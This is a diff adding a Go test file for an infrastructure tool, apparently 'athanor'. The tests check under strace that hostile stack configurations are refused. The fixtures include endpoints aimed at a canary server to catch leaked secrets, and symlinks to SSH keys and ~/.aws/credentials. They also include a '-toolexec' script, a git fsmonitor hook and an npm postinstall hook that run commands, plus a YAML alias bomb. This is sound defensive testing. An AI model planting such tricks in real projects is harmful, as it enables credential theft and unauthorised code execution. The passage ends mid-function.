@@ -1,0 +1,721 @@
+//go:build linux
+
+package main
+
+import (
+	"bytes"
+	"context"
+	"errors"
+	"fmt"
+	"io"
+	"maps"
+	"net"
+	"net/http"
+	"net/http/httptest"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"regexp"
+	"slices"
+	"strings"
+	"sync"
+	"syscall"
+	"testing"
+	"time"
+
+	"github.com/athanor-dev/athanor/providers/cloudflare/cloudflaretest"
+)
+
+// A hostile stack is a checkout that tries to reach what its user did not grant. Each is planned by the command as it
+// ships, under a trace of every connection, every file that is opened and every program that is started.
+type hostile struct {
+	// files of the checkout, by name; links by name too, and what they lead to. PROJECT, OUTSIDE, HOME and CANARY stand for
+	// the folders and for the address of the server that nobody allowed.
+	files, links map[string]string
+	// command is what is run in the checkout, plan by default.
+	command []string
+	env     []string
+	// asks are the refusals, one for each KIND=VALUE@PLACE; none: the stack is refused for what it is, or harmless.
+	asks []string
+	// says is a part of what is printed.
+	says string
+	// code is the exit code; 1 when asks are set.
+	code int
+	// reaches says what is reached when all of the asks are allowed: "canary", a file that is opened, or "".
+	reaches string
+	// sent is what is sent to the server when it is allowed; never is what is not sent to it even then.
+	sent, never string
+	// starts are programs that may be started.
+	starts []string
+	// cloud says that the user's environment names a cloud, which may be asked: what is prepared is prepared after that.
+	cloud bool
+	// until is what is printed before the command is asked to end, "" where it ends by itself.
+	until string
+}
+
+// untilWriter calls then when a text was written to it.
+type untilWriter struct {
+	buffer *bytes.Buffer
+	text   string
+	then   func()
+}
+
+func (w *untilWriter) Write(p []byte) (int, error) {
+	n, err := w.buffer.Write(p)
+	if w.then != nil && strings.Contains(w.buffer.String(), w.text) {
+		w.then()
+		w.then = nil
+	}
+	return n, err
+}
+
+func attacks() map[string]hostile {
+	const secret, value = "OUTSIDE/idrsa", "kind: local.Value"
+	stack := func(text string) map[string]string { return map[string]string{"athanor.yaml": "stack: shop\n" + text} }
+	with := func(files map[string]string, more ...string) map[string]string {
+		files = maps.Clone(files)
+		for i := 0; i < len(more); i += 2 {
+			files[more[i]] = more[i+1]
+		}
+		return files
+	}
+	function := func(code string) string {
+		return "providers: {aws: {region: eu-west-1}}\nresources:\n  fn:\n    kind: aws.lambda.Function\n    props: {handler: index.handler, runtime: nodejs24.x, role: 'arn:aws:iam::123456789012:role/x', code: " + code + "}\n"
+	}
+	return map[string]hostile{
+		"an endpoint of Cloudflare": {
+			files:   stack("providers: {cloudflare: {endpoint: http://CANARY/}}\nresources: {q: {kind: cloudflare.Queue}}\n"),
+			asks:    []string{"endpoint=http://CANARY/@providers.cloudflare.endpoint"},
+			reaches: "canary",
+		},
+		"an endpoint by way of another name": {
+			files: stack("providers: {a: {use: aws, endpoint: http://CANARY/}, b: {use: a, region: eu-west-1}}\nresources: {q: {kind: aws.sqs.Queue, provider: b}}\n"),
+			asks:  []string{"endpoint=http://CANARY/@providers.a.endpoint"}, reaches: "canary",
+		},
+		"an endpoint in a graph document": {
+			files: map[string]string{"graph.json": `{"format":1,"stack":"shop","stage":"dev-tester","resources":[{"address":"q","kind":"aws.sqs.Queue","settings":{"endpoint":"http://CANARY","region":"eu-west-1"}}]}`},
+			asks:  []string{"endpoint=http://CANARY@resources.q.settings.endpoint"}, command: []string{"plan", "graph.json"}, reaches: "canary",
+		},
+		"a region that is a host": {
+			files: stack("providers: {aws: {region: 'x@CANARY/#'}}\nresources: {q: {kind: aws.sqs.Queue}}\n"), code: 1, says: "region",
+		},
+		"the store of another stack": {
+			files: stack("refs: {x: {stack: other, store: \"postgres://u@CANARY/db\"}}\nresources: {v: {" + value + ", props: {input: \"${ref.x.y}\"}}}\n"),
+			asks:  []string{"store=postgres://u@CANARY/db@refs.x.store"}, reaches: "canary", never: "hunter2", sent: "user\x00u\x00",
+		},
+		"any file and any variable in a query": {
+			files: stack(`providers: {aws: {endpoint: "http://CANARY/", region: eu-west-1}}
+secrets: {k: {file: ../outside/idrsa}, e: {env: PGPASSWORD}}
+read: {a: {kind: aws.sqs.Queue, query: {name: "${secret.k}"}}, b: {kind: aws.sqs.Queue, query: {name: "${secret.e}"}}}
+`),
+			asks: []string{"endpoint=http://CANARY/@providers.aws.endpoint", "path=" + secret + "@secrets.k.file", "env=PGPASSWORD@secrets.e.env"}, reaches: "canary",
+		},
+		"a source outside": {
+			files: stack("resources: {out: {kind: local.File, props: {path: out.txt, source: ../outside/idrsa}}}\n"),
+			asks:  []string{"path=" + secret + "@resources.out.source"}, reaches: secret,
+		},
+		"a file that is written outside": {
+			files: stack("resources: {out: {kind: local.File, props: {path: HOME/.bashrc, content: x}}}\n"),
+			asks:  []string{"path=HOME/.bashrc@resources.out.path"}, reaches: "HOME/.bashrc",
+		},
+		"a file outside that is only read": {
+			files: stack("read: {x: {kind: local.File, id: ../outside/idrsa}}\noutputs: {d: \"${x.digest}\"}\n"),
+			asks:  []string{"path=" + secret + "@read.x.id"}, reaches: secret,
+		},
+		"a secret by way of a link": {
+			files: stack("secrets: {k: {file: inside.txt}}\nresources: {v: {" + value + ", props: {input: \"${secret.k}\"}}}\n"),
+			links: map[string]string{"inside.txt": "../outside/idrsa"},
+			asks:  []string{"path=" + secret + "@secrets.k.file"}, reaches: secret,
+		},
+		"a source by way of two links and a folder": {
+			files: stack("resources: {out: {kind: local.File, props: {path: out.txt, source: a/b/credentials}}}\n"),
+			links: map[string]string{"a/b": "../c", "c": "HOME/.aws"},
+			asks:  []string{"path=HOME/.aws/credentials@resources.out.source"}, reaches: "HOME/.aws/credentials",
+		},
+		"a folder outside": {
+			files: stack("resources: {out: {kind: local.Directory, props: {path: out, source: ../outside}}}\n"),
+			asks:  []string{"path=OUTSIDE@resources.out.source"}, reaches: secret,
+		},
+		"code outside": {
+			files: stack(function("{zip: ../outside/idrsa}")), asks: []string{"path=" + secret + "@resources.fn.code.zip"},
+		},
+		"a folder of code by way of a link": {
+			files: stack(function("{directory: code}")), links: map[string]string{"code": "OUTSIDE"}, asks: []string{"path=OUTSIDE@resources.fn.code.directory"},
+		},
+		"migrations outside": {
+			files: stack("resources: {db: {kind: cloudflare.D1Database, props: {migrations: ../outside}}}\n"),
+			asks:  []string{"path=OUTSIDE@resources.db.migrations"},
+		},
+		"an object outside": {
+			files: stack("providers: {aws: {region: eu-west-1}}\nresources: {o: {kind: aws.s3.Object, props: {bucket: b, key: k, source: ../outside/idrsa}}}\n"),
+			asks:  []string{"path=" + secret + "@resources.o.source"},
+		},
+		"a file that is included": {
+			files: stack("include: [../outside/more.yaml]\n"), asks: []string{"path=OUTSIDE/more.yaml@include"}, reaches: "OUTSIDE/more.yaml",
+		},
+		"an included file that is a link": {
+			files: stack("include: [more.yaml]\n"), links: map[string]string{"more.yaml": "../outside/more.yaml"},
+			asks: []string{"path=OUTSIDE/more.yaml@include"}, reaches: "OUTSIDE/more.yaml",
+		},
+		"a stack that is a link": {
+			links: map[string]string{"athanor.yaml": "../outside/more.yaml"}, asks: []string{"path=OUTSIDE/more.yaml@target"},
+		},
+		"a path that is known later": {
+			files:   stack("resources:\n  v: {" + value + ", props: {input: OUTSIDE/written}}\n  out: {kind: local.File, props: {path: \"${v.output}\", content: x}}\n"),
+			command: []string{"deploy", "--yes"}, code: 1, says: "outside of the project",
+		},
+		"a source that is known later": {
+			files:   stack("resources:\n  v: {" + value + ", props: {input: ../outside/idrsa}}\n  out: {kind: local.File, props: {path: out.txt, source: \"${v.output}\"}}\n"),
+			command: []string{"deploy", "--yes"}, code: 4, says: "outside of the project",
+		},
+		"the project's own folder elsewhere": {
+			files: stack("resources: {v: {" + value + ", props: {input: 1}}}\n"), links: map[string]string{".athanor": "../outside"},
+			command: []string{"deploy", "--yes"}, asks: []string{"path=OUTSIDE@.athanor"},
+		},
+		"as whom": {
+			files: stack("providers: {aws: {region: eu-west-1, profile: prod, accountId: \"123456789012\"}, cloudflare: {tokenEnv: GITHUB_TOKEN, account: other}}\n" +
+				"resources: {q: {kind: aws.sqs.Queue}, r: {kind: cloudflare.Queue}}\n"),
+			asks: []string{
+				"identity=prod@providers.aws.profile", "identity=123456789012@providers.aws.accountId",
+				"identity=GITHUB_TOKEN@providers.cloudflare.tokenEnv", "identity=other@providers.cloudflare.account",
+			},
+		},
+		"a tool's flag as a package": {
+			files: with(stack("providers: {aws: {region: eu-west-1}}\nresources: {fn: {kind: aws.lambda.Function, props: {role: 'arn:aws:iam::123456789012:role/x', code: {go: \"-toolexec=PROJECT/evil.sh\"}}}}\n"),
+				"go.mod", "module example.com/x\n\ngo 1.26\n", "main.go", "package main\n\nfunc main() {}\n", "evil.sh", "#!/bin/sh\ntouch OUTSIDE/ran\nexec \"$@\"\n"),
+			asks: []string{"program=-toolexec=PROJECT/evil.sh@resources.fn.code.go"},
+		},
+		"a linker's flag": {
+			files: with(stack("providers: {aws: {region: eu-west-1}}\nresources: {fn: {kind: aws.lambda.Function, props: {role: 'arn:aws:iam::123456789012:role/x', code: {go: ., ldFlags: \"-cpuprofile=OUTSIDE/ran\"}}}}\n"),
+				"go.mod", "module example.com/x\n\ngo 1.26\n", "main.go", "package main\n\nfunc main() {}\n"),
+			asks: []string{"program=-cpuprofile=OUTSIDE/ran@resources.fn.code.ldFlags"},
+		},
+		"another program of the go command": {
+			files: with(stack("providers: {aws: {region: eu-west-1}}\nresources: {fn: {kind: aws.lambda.Function, props: {role: 'arn:aws:iam::123456789012:role/x', code: {go: .}}}}\n"),
+				"go.mod", "module example.com/x\n\ngo 1.21\n\ntoolchain go1.99.9\n", "main.go", "package main\n\nfunc main() {}\n",
+				".git/config", "[core]\n\tfsmonitor = touch OUTSIDE/ran\n\trepositoryformatversion = 0\n", ".git/HEAD", "ref: refs/heads/main\n"),
+			cloud: true, code: 1, says: "there is none", starts: []string{"/go", "/compile", "/link", "/asm"},
+		},
+		"what a bundler reads": {
+			files: with(stack(function("{bundle: src/index.ts}")), "src/index.ts", "import text from './link.json';\nexport const handler = () => text;\n"),
+			links: map[string]string{"src/link.json": "../../outside/data.json"}, cloud: true, code: 1, says: "outside of the project",
+		},
+		"what a bundler is told": {
+			files: with(stack(function("{bundle: src/index.ts}")), "src/index.ts", "export const handler = 1;\n", "src/tsconfig.json", `{"extends": "../../outside/tsconfig.json"}`,
+				"package.json", `{"scripts": {"postinstall": "touch OUTSIDE/ran"}}`),
+			asks: []string{"path=OUTSIDE/tsconfig.json@resources.fn.code.bundle"},
+		},
+		"a store that a plan names": {
+			files:   with(stack("resources: {v: {"+value+", props: {input: 1}}}\n"), "plan.json", `{"athanorPlan":1,"target":"PROJECT","stage":"dev-tester","store":"postgres://u@CANARY/db","options":{},"plan":{"format":1,"stack":"shop","stage":"dev-tester","actions":[]}}`),
+			command: []string{"deploy", "plan.json", "--yes"}, code: 1,
+		},
+		"a session of dev": {
+			files:   stack("providers: {cloudflare: {endpoint: http://CANARY/}}\nresources: {q: {kind: cloudflare.Queue}}\n"),
+			command: []string{"dev"}, code: -1, until: "nobody has allowed", asks: []string{"endpoint=http://CANARY/@providers.cloudflare.endpoint"},
+		},
+		"a whole number that is none": {
+			files: stack("resources: {v: {" + value + ", props: {input: 18446744073709551616}}}\n"), code: 1, says: "18446744073709551616",
+		},
+		"much made of little": {
+			files: stack(bomb()), code: 1, says: "MiB",
+		},
+	}
+}
+
+// bomb is less than 1 KiB of YAML that stands for gigabytes.
+func bomb() string {
+	var b strings.Builder
+	b.WriteString("x-0: &a0 [" + strings.Repeat("abcdefgh", 12) + "]\n")
+	for i := 1; i < 7; i++ {
+		fmt.Fprintf(&b, "x-%d: &a%d [%s]\n", i, i, strings.TrimSuffix(strings.Repeat(fmt.Sprintf("*a%d,", i-1), 8), ","))
+	}
+	b.WriteString("resources: {v: {kind: local.Value, props: {input: [*a6,*a6,*a6,*a6,*a6,*a6,*a6,*a6]}}}\n")
+	return b.String()
+}
+
+// TestHostile plans what nobody has allowed: every refusal comes at once, and before any connection. The same stacks, with
+// the permission, reach what they ask for, so that the traces are known to see it.
+func TestHostile(t *testing.T) {
+	for _, name := range slices.Sorted(maps.Keys(attacks())) {
+		t.Run(name, func(t *testing.T) {
+			t.Parallel()
+			attack(t, attacks()[name])
+		})
+	}
+}
+
+func attack(t *testing.T, h hostile) {
+	x := hostileWorld(t)
+	x.write(h.files)
+	for name, to := range h.links {
+		x.link(name, x.fill(to))
+	}
+	if len(h.asks) > 0 && h.code == 0 {
+		h.code = 1
+	}
+	if h.cloud {
+		x.cloud = x.startCloud()
+		h.env = append(h.env, "AWS_ENDPOINT_URL="+x.cloud)
+	}
+	run := x.run(h, h.env...)
+	if h.code >= 0 && run.code != h.code {
+		t.Errorf("exit code %d, want %d", run.code, h.code)
+	}
+	for _, ask := range h.asks {
+		kind, rest, _ := strings.Cut(x.fill(ask), "=")
+		value, place := rest[:strings.LastIndex(rest, "@")], rest[strings.LastIndex(rest, "@")+1:]
+		if !strings.Contains(run.out, value) || !strings.Contains(run.out, place+":") {
+			t.Errorf("it does not name the %s %s at %s", kind, value, place)
+		}
+	}
+	if !strings.Contains(run.out, h.says) {
+		t.Errorf("it does not say %q", h.says)
+	}
+	for _, text := range []string{canarySecret, "hunter2"} {
+		if strings.Contains(run.out, text) {
+			t.Errorf("it shows %q", text)
+		}
+	}
+	if run.usage.Maxrss > 400<<10 {
+		t.Errorf("it took %d MiB", run.usage.Maxrss>>10)
+	}
+	x.untouched(run, h.starts)
+	if t.Failed() {
+		t.Logf("%s", run.out)
+	}
+	if h.reaches == "" {
+		return
+	}
+	allow := []string{"ATHANOR_ALLOW=" + x.fill(strings.Join(h.asks, ","))}
+	run = x.run(h, slices.Concat(h.env, allow)...)
+	if strings.Contains(run.out, "nobody has allowed") || len(run.refusals()) > 0 {
+		t.Errorf("refused although it is allowed: %s", run.out)
+	}
+	switch {
+	case h.reaches == "canary":
+		got := strings.Join(x.canary.got(), "")
+		if x.canary.count() == 0 || !strings.Contains(got, h.sent) {
+			t.Errorf("what is allowed is not reached: %q: %s", got, run.out)
+		}
+		if h.never != "" && strings.Contains(got, h.never) {
+			t.Errorf("it sent %q: %q", h.never, got)
+		}
+	case !slices.Contains(run.opened, x.fill(h.reaches)):
+		t.Errorf("what is allowed is not opened: %s\n%s", run.out, strings.Join(run.opened, "\n"))
+	}
+}
+
+// canarySecret is in files that no stack may read.
+const canarySecret = "canary-4f1b-never-shown"
+
+// arena is a checkout, what lies beside it, and servers that nobody may reach.
+type arena struct {
+	*testing.T
+	project, outside, home string
+	canary                 *canaryServer
+	// temporary are the folders that commands had for their temporary files.
+	temporary []string
+	// cloud is the URL of what may be asked, "" for nothing.
+	cloud string
+	// redirect answers what is read of the cloud without a body; nil: there is nothing.
+	redirect http.HandlerFunc
+}
+
+// startCloud is a cloud that knows who asks, and has nothing.
+func (x *arena) startCloud() string {
+	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		if text, err := io.ReadAll(r.Body); err == nil && strings.Contains(string(text), "GetCallerIdentity") {
+			_, _ = io.WriteString(w, `<GetCallerIdentityResponse xmlns="https://sts.amazonaws.com/doc/2011-06-15/"><GetCallerIdentityResult>`+
+				`<Arn>arn:aws:iam::123456789012:user/x</Arn><UserId>A</UserId><Account>123456789012</Account></GetCallerIdentityResult></GetCallerIdentityResponse>`)
+			return
+		}
+		if x.redirect != nil && (r.Method == http.MethodGet || r.Method == http.MethodHead) {
+			x.redirect(w, r)
+			return
+		}
+		if strings.HasSuffix(r.Header.Get("X-Amz-Target"), ".GetResources") {
+			_, _ = io.WriteString(w, `{"ResourceTagMappingList":[]}`)
+			return
+		}
+		w.Header().Set("X-Amzn-Errortype", "ResourceNotFoundException")
+		w.WriteHeader(http.StatusNotFound)
+		_, _ = io.WriteString(w, `{"__type":"ResourceNotFoundException","message":"there is none"}`)
+	}))
+	x.Cleanup(server.Close)
+	return server.URL
+}
+
+func hostileWorld(t *testing.T) *arena {
+	t.Helper()
+	if _, err := exec.LookPath("strace"); err != nil {
+		t.Skip("no strace to watch connections and files with")
+	}
+	base, err := filepath.EvalSymlinks(t.TempDir())
+	if err != nil {
+		t.Fatal(err)
+	}
+	x := &arena{T: t, project: filepath.Join(base, "project"), outside: filepath.Join(base, "outside"), home: filepath.Join(base, "home"), canary: startCanary(t)}
+	x.write(map[string]string{
+		".git/x": "", "../outside/idrsa": canarySecret + "\n", "../outside/more.yaml": "x-more: " + canarySecret + "\n",
+		"../outside/data.json": `"` + canarySecret + `"`, "../outside/tsconfig.json": `{"compilerOptions": {}}`, "../outside/0001.sql": canarySecret,
+		"../home/.aws/credentials": "[default]\naws_access_key_id = A\naws_secret_access_key = " + canarySecret + "\n", "../home/.bashrc": canarySecret,
+	})
+	return x
+}
+
+func (x *arena) fill(text string) string {
+	return strings.NewReplacer("PROJECT", x.project, "OUTSIDE", x.outside, "HOME", x.home, "CANARY", x.canary.address).Replace(text)
+}
+
+func (x *arena) write(files map[string]string) {
+	x.Helper()
+	for name, text := range files {
+		path := filepath.Join(x.project, name)
+		mode := os.FileMode(0o600)
+		if strings.HasPrefix(text, "#!") {
+			mode = 0o700
+		}
+		if err := errors.Join(os.MkdirAll(filepath.Dir(path), 0o700), os.WriteFile(path, []byte(x.fill(text)), mode)); err != nil {
+			x.Fatal(err)
+		}
+	}
+}
+
+func (x *arena) link(name, to string) {
+	x.Helper()
+	path := filepath.Join(x.project, name)
+	if err := errors.Join(os.MkdirAll(filepath.Dir(path), 0o700), os.Symlink(to, path)); err != nil {
+		x.Fatal(err)
+	}
+}
+
+// hostileRun is what a command did.
+type hostileRun struct {
+	out                         string
+	code                        int
+	connected, opened, executed []string
+	usage                       *syscall.Rusage
+}
+
+func (r hostileRun) refusals() []string {
+	return regexp.MustCompile(`--allow \S+`).FindAllString(r.out, -1)
+}
+
+// run runs a command in the checkout, under a trace.
+func (x *arena) run(h hostile, env ...string) hostileRun {
+	x.Helper()
+	command := h.command
+	if command == nil {
+		command = []string{"plan"}
+	}
+	trace, temporary := filepath.Join(x.TempDir(), "trace"), x.TempDir()
+	x.temporary = append(x.temporary, temporary)
+	ctx, cancel := context.WithTimeout(x.Context(), hostileLimit)
+	defer cancel()
+	args := append([]string{"-f", "-y", "-qq", "-s", "4096", "-e", "trace=connect,open,openat,openat2,execve", "-o", trace, built(x.T, false)}, command...)
+	for i := range args {
+		args[i] = x.fill(args[i])
+	}
+	cmd := exec.CommandContext(ctx, "strace", args...)
+	cmd.Dir = x.project
+	cmd.Env = append([]string{
+		"PATH=" + os.Getenv("PATH"), "HOME=" + x.home, "USER=tester", "TERM=dumb", "TMPDIR=" + temporary, "PGPASSWORD=hunter2", "GITHUB_TOKEN=hunter2",
+		"AWS_ACCESS_KEY_ID=AKIDEXAMPLE", "AWS_SECRET_ACCESS_KEY=hunter2hunter2", "CLOUDFLARE_API_TOKEN=hunter2hunter2", "AWS_EC2_METADATA_DISABLED=true",
+		"GOCACHE=" + goVariable(x.T, "GOCACHE"), "GOMODCACHE=" + goVariable(x.T, "GOMODCACHE"), "GOTELEMETRY=off", "GOPROXY=http://" + x.canary.address,
+	}, env...)
+	var out bytes.Buffer
+	cmd.Stdout, cmd.Stderr = &out, &out
+	if h.until != "" {
+		awaited := &untilWriter{buffer: &out, text: h.until, then: func() { _ = syscall.Kill(-cmd.Process.Pid, syscall.SIGTERM) }}
+		cmd.Stdout, cmd.Stderr = awaited, awaited
+	}
+	cmd.SysProcAttr = &syscall.SysProcAttr{Setpgid: true} // what is traced outlives the one who traces
+	cmd.Cancel = func() error { return syscall.Kill(-cmd.Process.Pid, syscall.SIGKILL) }
+	cmd.WaitDelay = time.Second
+	err := cmd.Run()
+	if ctx.Err() != nil {
+		x.Fatalf("it does not end: %s", out.String())
+	}
+	if _, failed := errors.AsType[*exec.ExitError](err); err != nil && !failed {
+		x.Fatal(err)
+	}
+	r := hostileRun{out: out.String(), code: cmd.ProcessState.ExitCode(), usage: cmd.ProcessState.SysUsage().(*syscall.Rusage)}
+	text, err := os.ReadFile(trace)
+	if err != nil {
+		x.Fatal(err)
+	}
+	r.read(string(text))
+	return r
+}
+
+var (
+	tracedOpen    = regexp.MustCompile(`open(?:at|at2)?\(.*\) = \d+<(.*)>$`)
+	tracedConnect = regexp.MustCompile(`connect\(.*sa_family=AF_INET6?, (.*)\}`)
+	tracedExec    = regexp.MustCompile(`execve\("([^"]*)".*\) = 0$`)
+)
+
+func (r *hostileRun) read(trace string) {
+	for line := range strings.Lines(trace) {
+		line = strings.TrimSuffix(line, "\n")
+		if m := tracedOpen.FindStringSubmatch(line); m != nil {
+			r.opened = append(r.opened, m[1])
+		}
+		if m := tracedConnect.FindStringSubmatch(line); m != nil {
+			r.connected = append(r.connected, m[1])
+		}
+		if m := tracedExec.FindStringSubmatch(line); m != nil {
+			r.executed = append(r.executed, m[1])
+		}
+	}
+}
+
+// untouched checks that a command reached nothing: no connection was begun, no file was opened outside of the project,
+// and no program was started but those that may be.
+func (x *arena) untouched(r hostileRun, starts []string) {
+	x.Helper()
+	_, port, _ := strings.Cut(strings.TrimPrefix(x.cloud, "http://"), ":")
+	for _, to := range r.connected {
+		if x.cloud == "" || !strings.Contains(to, "htons("+port+")") {
+			x.Errorf("it connected to %s", to)
+		}
+	}
+	if n := x.canary.count(); n > 0 {
+		x.Errorf("the server that nobody allowed was asked %d times: %q", n, x.canary.got())
+	}
+	system := []string{
+		"/proc/", "/sys/", "/dev/", "/etc/", "/usr/", "/lib", "/bin/", "/opt/", x.project, filepath.Join(x.home, ".config"), filepath.Join(x.home, ".aws"), goVariable(x.T, "GOROOT"),
+		goVariable(x.T, "GOCACHE"), goVariable(x.T, "GOMODCACHE"), filepath.Dir(built(x.T, false)), "pipe:", "socket:", "anon_inode:",
+	}
+	system = append(system, x.temporary...)
+	for _, path := range r.opened {
+		if x.cloud == "" && strings.HasPrefix(path, filepath.Join(x.home, ".aws")) || !slices.ContainsFunc(system, func(s string) bool { return strings.HasPrefix(path, s) }) && !isFolder(path) {
+			x.Errorf("it opened %s", path)
+		}
+	}
+	for i, program := range r.executed {
+		if i > 0 && !slices.ContainsFunc(starts, func(s string) bool { return strings.HasSuffix(program, s) }) {
+			x.Errorf("it started %s", program)
+		}
+	}
+	if names, err := os.ReadDir(x.outside); err != nil || len(names) != 5 {
+		x.Error("a program of the stack was run, or wrote outside")
+	}
+}
+
+// isFolder reports whether a path is a folder: to find its root, or modules, the folders above a file are listed.
+func isFolder(path string) bool {
+	info, err := os.Stat(path)
+	return err == nil && info.IsDir()
+}
+
+var goEnv = sync.OnceValue(func() map[string]string {
+	names := []string{"GOCACHE", "GOMODCACHE", "GOROOT"}
+	out, err := exec.Command("go", append([]string{"env"}, names...)...).Output()
+	if err != nil {
+		return nil
+	}
+	values := map[string]string{}
+	for i, line := range strings.Split(strings.TrimSpace(string(out)), "\n") {
+		values[names[i]] = line
+	}
+	return values
+})
+
+func goVariable(t *testing.T, name string) string {
+	t.Helper()
+	v := goEnv()[name]
+	if v == "" {
+		t.Fatalf("go env %s is empty", name)
+	}
+	return v
+}
+
+// canaryServer notes what is sent to it, and answers as a database that asks for a password, or as a service that fails.
+type canaryServer struct {
+	address string
+	mu      sync.Mutex
+	seen    []string
+}
+
+func startCanary(t *testing.T) *canaryServer {
+	t.Helper()
+	l, err := net.Listen("tcp", "127.0.0.1:0")
+	if err != nil {
+		t.Fatal(err)
+	}
+	c := &canaryServer{address: l.Addr().String()}
+	var wait sync.WaitGroup
+	wait.Go(func() {
+		for {
+			conn, err := l.Accept()
+			if err != nil {
+				return
+			}
+			wait.Go(func() { c.serve(conn) })
+		}
+	})
+	t.Cleanup(func() {
+		_ = l.Close()
+		wait.Wait()
+	})
+	return c
+}
+
+func (c *canaryServer) serve(conn net.Conn) {
+	defer conn.Close()
+	var got []byte
+	buf := make([]byte, 4096)
+	for {
+		n, err := conn.Read(buf)
+		got = append(got, buf[:n]...)
+		if err != nil {
+			break
+		}
+		if bytes.Equal(buf[:n], []byte{0, 0, 0, 8, 4, 210, 22, 47}) { // TLS is asked for
+			_, _ = conn.Write([]byte{'N'})
+			continue
+		}
+		if bytes.HasPrefix(got, []byte{0, 0}) && n > 8 && buf[4] == 0 && buf[5] == 3 { // the start of PostgreSQL's protocol
+			_, _ = conn.Write([]byte{'R', 0, 0, 0, 8, 0, 0, 0, 3}) // the password, in clear
+			continue
+		}
+		if bytes.Contains(got, []byte("\r\n\r\n")) {
+			_, _ = io.WriteString(conn, "HTTP/1.1 403 Forbidden\r\nContent-Length: 0\r\nConnection: close\r\n\r\n")
+			break
+		}
+	}
+	c.mu.Lock()
+	defer c.mu.Unlock()
+	c.seen = append(c.seen, string(got))
+}
+
+func (c *canaryServer) got() []string {
+	c.mu.Lock()
+	defer c.mu.Unlock()
+	return slices.Clone(c.seen)
+}
+
+func (c *canaryServer) count() int { return len(c.got()) }
+
+// TestRedirect: a service that is allowed sends the command on to a host that is not: nothing goes there.
+func TestRedirect(t *testing.T) {
+	for kind, props := range map[string]string{
+		"aws.s3.Bucket": "{name: some-bucket}", "aws.route53.HostedZone": "{name: example.com}",
+		"aws.lambda.Function": "{name: fn, role: 'arn:aws:iam::123456789012:role/x', handler: index.handler, runtime: nodejs24.x, code: {s3: {bucket: b, key: k}}}",
+		"cloudflare.Queue":    "{name: q}",
+	} {
+		t.Run(kind, func(t *testing.T) {
+			t.Parallel()
+			for _, status := range []int{301, 302, 303, 307, 308} {
+				x, asked := hostileWorld(t), false
+				x.redirect = func(w http.ResponseWriter, r *http.Request) {
+					asked = true
+					w.Header().Set("Location", "http://"+x.canary.address+r.URL.Path)
+					w.WriteHeader(status)
+				}
+				url := x.startCloud()
+				x.write(map[string]string{"athanor.yaml": "stack: shop\nresources: {r: {kind: " + kind + ", props: " + props + "}}\n"})
+				run := x.run(hostile{}, "AWS_ENDPOINT_URL="+url, "CLOUDFLARE_API_BASE_URL="+url, "AWS_REGION=eu-west-1")
+				if !asked || run.code != 1 || x.canary.count() > 0 {
+					t.Errorf("%d: asked %t, exit code %d, %d calls elsewhere: %q\n%s", status, asked, run.code, x.canary.count(), x.canary.got(), run.out)
+				}
+			}
+		})
+	}
+}
+
+// hostileLimit is how long a command may take that ends at once.
+const hostileLimit = 3 * time.Minute
+
+// TestExamplesReach: the examples, which ask for nothing, reach nothing but the clouds of the user's environment.
+func TestExamplesReach(t *testing.T) {
+	files, err := filepath.Glob("../../examples/*/*.yaml")
+	if err != nil || len(files) < 5 {
+		t.Fatalf("%d examples, %v", len(files), err)
+	}
+	for _, file := range files {
+		t.Run(filepath.Base(filepath.Dir(file)), func(t *testing.T) {
+			t.Parallel()
+			x := hostileWorld(t)
+			if err := os.CopyFS(x.project, os.DirFS(filepath.Dir(file))); err != nil {
+				t.Fatal(err)
+			}
+			x.write(map[string]string{"go.mod": "module github.com/athanor-dev/athanor/examples/" + filepath.Base(filepath.Dir(file)) + "\n\ngo 1.26\n"})
+			x.cloud = x.startCloud()
+			run := x.run(hostile{command: []string{"plan", filepath.Base(file)}}, "AWS_ENDPOINT_URL="+x.cloud, "CLOUDFLARE_API_BASE_URL="+x.cloud, "AWS_REGION=eu-west-1")
+			if len(run.refusals()) > 0 || strings.Contains(run.out, "outside of the project") {
+				t.Errorf("%s", run.out)
+			}
+			x.untouched(run, []string{"/go", "/compile", "/link", "/asm"})
+		})
+	}
+}
+
+// TestStateGrantsNothing: what a resource that is no longer declared was reached by stands in state, and is refused like what
+// the stack itself says.
+func TestStateGrantsNothing(t *testing.T) {
+	t.Parallel()
+	x, s := hostileWorld(t), cloudflaretest.Start(t)
+	head := "stack: shop\n"
+	x.write(map[string]string{"athanor.yaml": head + "providers: {cloudflare: {endpoint: \"" + s.URL + "\", account: \"" + s.Account + "\"}}\n" +
+		"resources: {cache: {kind: cloudflare.KVNamespace}}\n"})
+	env := []string{"CLOUDFLARE_API_TOKEN=" + s.Token, "ATHANOR_ALLOW=endpoint=" + s.URL + ",identity=" + s.Account}
+	if run := x.run(hostile{command: []string{"deploy", "--yes"}}, env...); run.code != 0 {
+		t.Fatalf("deploy: %d: %s", run.code, run.out)
+	}
+	for name, c := range map[string]struct {
+		yaml    string
+		command []string
+	}{
+		"plan":    {head + "resources: {}\n", []string{"plan"}},
+		"destroy": {"not a stack", []string{"destroy", "--stack", "shop", "--yes"}},
+		"drift":   {head + "resources: {}\n", []string{"drift"}},
+	} {
+		x.write(map[string]string{"athanor.yaml": c.yaml})
+		calls := s.Count("*")
+		run := x.run(hostile{command: c.command}, env[0])
+		if run.code == 0 || !strings.Contains(run.out, "nobody has allowed") || s.Count("*") > calls || len(run.connected) > 0 {
+			t.Errorf("%s: exit code %d after %d calls, %v: %s", name, run.code, s.Count("*")-calls, run.connected, run.out)
+		}
+	}
+	if run := x.run(hostile{command: []string{"destroy", "--stack", "shop", "--yes"}}, env...); run.code != 0 {
+		t.Errorf("destroy with the permission: %d: %s", run.code, run.out)
+	}
+}
+
+// TestInputNeverComes: a target that is a pipe into which nobody writes ends with the first signal.
+func TestInputNeverComes(t *testing.T) {
+	t.Parallel()
+	w := newWorld(t, small)
+	pipe := filepath.Join(w.dir, "pipe")
+	if err := syscall.Mkfifo(pipe, 0o600); err != nil {
+		t.Fatal(err)
+	}
+	for _, args := range [][]string{{"plan", pipe}, {"plan", "-"}} {
+		cmd := w.command(args...)
+		if args[1] == "-" {
+			f, err := os.OpenFile(pipe, os.O_RDWR, 0) // a standard input that never ends
+			if err != nil {
+				t.Fatal(err)
+			}
+			defer f.Close()
+			cmd.Stdin = f
+		}
+		if err := cmd.Start(); err != nil {
+			t.Fatal(err)
+		}
+		if args[1] != "-" {
+			f, err := os.OpenFile(pipe, os.O_WRONLY, 0) // opens when the command reads
+			if err != nil {
+				t.Fatal(err)
+			}
+			defer f.Close()
